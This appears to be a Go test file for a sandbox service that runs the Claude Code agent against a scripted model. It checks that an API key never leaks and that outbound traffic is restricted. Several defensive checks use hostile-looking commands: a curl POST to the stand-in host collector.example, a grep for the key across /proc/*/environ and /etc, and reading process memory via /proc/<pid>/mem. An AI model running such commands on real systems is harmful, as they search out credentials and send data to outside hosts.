package main

import (
	"bytes"
	"errors"
	"fmt"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cove-dev/cove"
	"github.com/cove-dev/cove/internal/test/modeltest"
)

// claudeVersion is the one that jobs install.
const claudeVersion = "2.1.329"

// requireAgents is for what runs real agents.
func requireAgents(t *testing.T) {
	if os.Getenv("COVE_TEST_AGENTS") != "1" {
		t.Skip("make test-agents runs it: it installs agents from npm")
	}
}

// installed are packages that this process's tests share.
var installed struct {
	sync.Mutex
	dir     string
	folders map[string]string
}

// npmInstall returns a folder with packages from npm, on this machine.
func npmInstall(t *testing.T, packages ...string) string {
	t.Helper()
	installed.Lock()
	defer installed.Unlock()
	if installed.dir == "" {
		dir, err := os.MkdirTemp("", "cove-agents-")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(dir, 0o755); err != nil { // the sprite's user looks into it
			t.Fatal(err)
		}
		installed.dir, installed.folders = dir, map[string]string{}
	}
	key := strings.Join(packages, " ")
	if dir := installed.folders[key]; dir != "" {
		return dir
	}
	dir := filepath.Join(installed.dir, fmt.Sprint(len(installed.folders)))
	npm := exec.Command("npm", append([]string{"install", "--prefix", dir, "--no-audit", "--no-fund", "--loglevel=error"}, packages...)...)
	if out, err := npm.CombinedOutput(); err != nil {
		t.Fatalf("npm install: %v\n%s", err, out)
	}
	installed.folders[key] = dir
	return dir
}

// removeInstalled removes what npmInstall has made.
func removeInstalled() {
	installed.Lock()
	defer installed.Unlock()
	if installed.dir != "" {
		_ = os.RemoveAll(installed.dir)
	}
}

// npmPath has the programs of such a folder found.
func npmPath(dir string) string {
	return "PATH=" + dir + "/node_modules/.bin:/.sprite/bin:/usr/local/bin:/usr/bin:/bin"
}

// TestClaude has the real Claude Code, installed from npm, carry out a plan in a
// sandbox against a scripted model outside, whose key never is inside.
func TestClaude(t *testing.T) {
	requireAgents(t)
	h := newHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	const key = "sk-ant-the-real-key"
	model := &modeltest.Anthropic{Key: key, Turns: []modeltest.Turn{
		{Text: "I look first.", Calls: []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": "ls; env", "description": "look around"}}}},
		{Text: "A new file.", Calls: []modeltest.Call{{Tool: "Write", Input: map[string]any{"file_path": "HELLO.md", "content": "# Hello\n"}}}},
		{Text: "Read before edit.", Calls: []modeltest.Call{{Tool: "Read", Input: map[string]any{"file_path": "greeting.txt"}}}},
		{Text: "Now the change.", Calls: []modeltest.Call{{Tool: "Edit", Input: map[string]any{"file_path": "greeting.txt", "old_string": "hello", "new_string": "hello, world"}}}},
		{Text: "Commit.", Calls: []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": "git add -A && git commit -q -m 'Greet the world'", "description": "commit"}}}},
		{Text: "All is done."},
	}}
	server := httptest.NewServer(model)
	defer server.Close()
	h.serve(nil)
	set := h.command("", "cove", "secret", "set", "anthropic")
	set.Stdin = strings.NewReader(key)
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	h.run("", "cove", "connector", "put", "anthropic", "--upstream", server.URL)

	repo := h.repository("repo", map[string]string{"greeting.txt": "hello\n", "plan.md": "# Plan\n\nGreet the world, not nobody.\n"})
	job, sprite := h.push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	out, code := h.try(repo, "cove", "pull", job, "--wait=10m")
	logs, _ := h.try(repo, "cove", "job", "logs", job)
	t.Logf("pull: %s\nlogs:\n%s", out, logs)
	if code != 0 || !strings.Contains(out, "Fast-forwarded main") {
		t.Fatalf("pull exited with %d", code)
	}
	if got := h.run(repo, "git", "show", "HEAD:greeting.txt"); got != "hello, world\n" {
		t.Errorf("greeting.txt: got %q", got)
	}
	if got := h.run(repo, "git", "log", "-1", "--format=%an: %s", "--", "HELLO.md"); got != "Ada: Greet the world\n" {
		t.Errorf("the commit of HELLO.md: got %q", got)
	}
	for _, want := range []string{"-> Write", "-> Edit", "All is done.", "== success"} {
		if !strings.Contains(logs, want) {
			t.Errorf("the log lacks %q", want)
		}
	}
	asked := model.Requests()
	if len(asked) < len(model.Turns) {
		t.Errorf("the model was asked %d times", len(asked))
	}
	for _, r := range asked {
		if strings.Contains(r.Last, key) {
			t.Error("the key was seen inside")
		}
	}
	h.run("", "cove", "exec", "-s", sprite, "--detach", "--env", "MARK="+planted, "sleep", "6000")
	h.keyNowhere(key)
	if out, _ := h.try("", "cove", "exec", "-s", sprite, "--", "sh", "-c", "grep -r "+key+" /home /tmp /etc /proc/*/environ 2>/dev/null"); strings.Contains(out, key) {
		t.Error("the key is in the sprite")
	}
	show := h.run("", "cove", "job", "show", job, "--json")
	if !strings.Contains(show, `"input_tokens"`) {
		t.Errorf("the job has no usage: %s", show)
	}
}

// TestClaudeFails has a model that only answers with errors: the job fails, says
// why, and is over soon.
func TestClaudeFails(t *testing.T) {
	requireAgents(t)
	h := newHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	server := httptest.NewServer(&modeltest.Anthropic{Status: 401})
	defer server.Close()
	h.serve(nil, "--connector", "anthropic="+server.URL)
	repo := h.repository("repo", map[string]string{"plan.md": "Do it.\n"})
	job, _ := h.push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	if out, code := h.try(repo, "cove", "job", "wait", job); code != 1 {
		t.Errorf("job wait exited with %d: %s", code, out)
	}
	show := h.run("", "cove", "job", "show", job)
	t.Logf("%s", show)
	if !strings.Contains(show, "failed") {
		t.Error("the job did not fail")
	}
}

// TestClaudeConverse talks with the real Claude Code while it is at its job: it asks,
// waits, is answered, and ends when it is told that no more will come. Its turns are
// counted as they come, and its record of the talk is in the bundle.
func TestClaudeConverse(t *testing.T) {
	requireAgents(t)
	h := newHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	bash := func(command string) []modeltest.Call {
		return []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": command, "description": "work"}}}
	}
	model := &modeltest.Anthropic{Turns: []modeltest.Turn{
		{Text: "Which colour?"},
		{Text: "Then that.", Calls: bash("echo blue >colour.txt; git add -A; git commit -q -m 'Paint it'")},
		{Text: "Painted."},
		{Text: "Good bye.", Calls: bash("echo bye >bye.txt; git add -A; git commit -q -m 'Say good bye'")},
		{Text: "All is done."},
	}}
	server := httptest.NewServer(model)
	defer server.Close()
	h.serve(nil, "--connector", "anthropic="+server.URL)
	repo := h.repository("repo", map[string]string{"plan.md": "Paint it.\n"})
	flags := []string{"plan.md", "--agent", "claude", "--include", tools, "--env", npmPath(tools)}
	job, _ := h.push(repo, append(flags, "--converse", "--max-idle", "2m")...)
	waits := func(said string) {
		t.Helper()
		await(t, "it waits after "+said, func() bool {
			return h.job(job).State.Terminal() || strings.Contains(h.run("", "cove", "job", "logs", job), said) && h.job(job).State == cove.JobWaiting
		})
		if got := h.job(job); got.State != cove.JobWaiting {
			t.Fatalf("it is %s: %+v\n%s", got.State, got.Outcome, h.run("", "cove", "job", "logs", job))
		}
	}
	waits("Which colour?")
	h.run("", "cove", "job", "send", job, "Blue.")
	waits("Painted.")
	h.run("", "cove", "job", "send", job, "--close", "That is all.")
	if out, code := h.try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.run("", "cove", "job", "logs", job))
	}
	if got := h.run(repo, "git", "log", "--format=%s"); got != "Say good bye\nPaint it\nfirst\n" {
		t.Errorf("commits: got %q", got)
	}
	got := h.job(job)
	if got.State != cove.JobSucceeded || got.Usage == nil || *got.Usage != (cove.Usage{InputTokens: 500, OutputTokens: 100, CostUSD: 0.004, Turns: 5}) {
		t.Errorf("got %s, %+v, %+v", got.State, got.Outcome, got.Usage)
	}
	h.run(repo, "cove", "job", "bundle", job, "--output", "forensics/")
	if text := h.run(repo, "sh", "-c", "cat forensics/transcript/*"); !strings.Contains(text, "Which colour?") || !strings.Contains(text, "That is all.") {
		t.Errorf("the record of the talk: %.2000s", text)
	}

	// A script that calls a tool in its first turn, to which a second one must follow.
	model.Turns = model.Turns[3:]
	job, _ = h.push(repo, append(flags, "--dirty", "ignore", "--max-turns", "1")...)
	h.try("", "cove", "job", "wait", job)
	if got := h.job(job); got.Outcome.Kind != "turn_limit" {
		t.Errorf("with one turn: %+v", got.Outcome)
	}
}

// TestClaudeCheckpoint has the real Claude Code checkpointed and forked while it waits
// in the middle of its model's second answer: it finishes, and so does its copy, which
// has to ask again, each in its own sprite; and so does what a restore brings back.
func TestClaudeCheckpoint(t *testing.T) {
	requireAgents(t)
	h := newHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	commit := func(subject string) []modeltest.Call {
		command := "hostname >>hosts.txt; git add -A; git commit -q -m '" + subject + "'"
		return []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": command, "description": "work"}}}
	}
	held, release := make(chan struct{}), make(chan struct{})
	var once sync.Once
	model := &modeltest.Anthropic{
		Turns: []modeltest.Turn{{Text: "First.", Calls: commit("One")}, {Text: "Second.", Calls: commit("Two")}, {Text: "All is done."}},
		Hold: func(turn int) {
			if turn == 1 {
				once.Do(func() { close(held) })
				<-release
			}
		},
	}
	server := httptest.NewServer(model)
	defer server.Close()
	h.serve(nil)
	set := h.command("", "cove", "secret", "set", "anthropic")
	set.Stdin = strings.NewReader("sk-ant-some-key")
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	h.run("", "cove", "connector", "put", "anthropic", "--upstream", server.URL)
	h.run("", "cove", "connector", "grant", "anthropic", "--label", "copy") // a fork is granted nothing by itself
	repo := h.repository("repo", map[string]string{"plan.md": "Do it.\n"})
	job, sprite := h.push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	select {
	case <-held:
	case <-time.After(lastResort):
		t.Fatalf("the model was not asked twice:\n%s", h.run("", "cove", "job", "logs", job))
	}
	h.run("", "cove", "checkpoint", "create", "-s", sprite, "--memory")
	h.run("", "cove", "fork", sprite, "twin", "--label", "copy")
	close(release)
	if out, code := h.try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.run("", "cove", "job", "logs", job))
	}
	if got := h.run(repo, "git", "log", "--format=%s"); got != "Two\nOne\nfirst\n" {
		t.Errorf("commits: got %q", got)
	}
	work := "/home/sprite/work/" + job + "/repo"
	finished := func(name string) {
		t.Helper()
		await(t, "the copy in "+name, func() bool {
			_, code := h.try("", "cove", "exec", "-s", name, "--", "test", "-e", "/home/sprite/.cove/jobs/"+job+"/end.json")
			return code == 0
		})
		out := h.run("", "cove", "exec", "-s", name, "--dir", work, "--", "sh", "-c", "git log --format=%s; cat hosts.txt; cat ../../../.cove/jobs/"+job+"/end.json")
		if want := "Two\nOne\nfirst\n" + sprite + "\n" + name + "\n"; !strings.HasPrefix(out, want) || !strings.Contains(out, `"exit_code":0`) {
			t.Errorf("%s: got %s", name, out)
		}
	}
	finished("twin")
	h.run("", "cove", "fork", sprite, "later", "--checkpoint", "v1", "--label", "copy")
	finished("later")
}

// planted is in a sandbox's memory, to be found where keys are looked for.
const planted = "this-is-in-a-sandbox"

// keyNowhere looks for a key in the memory of the sandboxes, as it is on the host,
// and in all that the server has written: disks, logs, events, the database.
func (h *host) keyNowhere(key string) {
	h.t.Helper()
	sandboxes := 0
	commands, _ := filepath.Glob("/proc/[0-9]*/cmdline") // the pattern is right
	for _, name := range commands {
		text, err := os.ReadFile(name)
		if err != nil || !bytes.HasPrefix(text, []byte("runsc-sandbox")) || !bytes.Contains(text, []byte(h.data)) {
			continue
		}
		sandboxes++
		for what, want := range map[string]bool{key: false, planted: true} {
			if found, size, err := inMemory(filepath.Dir(name), what); found != want || err != nil {
				h.t.Errorf("%s is in the sandbox's memory, of which %d MiB were looked at: %v, %v", what, size>>20, found, err)
			}
		}
	}
	if sandboxes == 0 {
		h.t.Error("there is no sandbox to look at")
	}
	err := filepath.WalkDir(h.data, func(name string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(name)
		if bytes.Contains(text, []byte(key)) {
			h.t.Errorf("the key is in %s", name)
		}
		return err
	})
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		h.t.Error(err)
	}
}

// inMemory looks for a text in what a process has mapped and may write.
func inMemory(proc, text string) (found bool, size int64, err error) {
	maps, err := os.ReadFile(filepath.Join(proc, "maps"))
	if err != nil {
		return false, 0, err
	}
	mem, err := os.Open(filepath.Join(proc, "mem"))
	if err != nil {
		return false, 0, err
	}
	defer mem.Close()
	buf := make([]byte, 1<<20)
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var mode string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); err != nil || !strings.HasPrefix(mode, "rw") || to-from > 4<<30 {
			continue
		}
		for at := from; at < to; at += int64(len(buf) - len(text)) {
			n, _ := mem.ReadAt(buf[:min(int64(len(buf)), to-at)], at) // what was never touched can't be read
			size += int64(n)
			if bytes.Contains(buf[:n], []byte(text)) {
				return true, size, nil
			}
			if n == 0 {
				break
			}
		}
	}
	return false, size, nil
}

// TestAgentRegistries: under the preset agent, packages come from where this machine's
// own clients get theirs, and from nowhere else.
func TestAgentRegistries(t *testing.T) {
	requireAgents(t)
	h := newHost(t)
	h.serve(nil)
	h.run("", "cove", "create", "paint", "--network", "agent")
	h.run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "sh", "-c", "mkdir x; cd x; npm init -y >log; npm install --no-audit is-number@7.0.0 >>log; test -e node_modules/is-number")
	h.run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "--user", "root", "sh", "-c",
		"apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends sl >/dev/null && test -x /usr/games/sl")
	if out, code := h.try("", "cove", "exec", "-s", "paint", "curl", "-sS", "-m", "10", "-d", "x", "http://collector.example/"); code == 0 {
		t.Errorf("a POST to another host: %s", out)
	}
	if out := h.run("", "cove", "policy", "log", "-s", "paint"); !strings.Contains(out, "cove policy allow -s paint collector.example") {
		t.Errorf("the log does not say what to do about it:\n%s", out)
	}
}
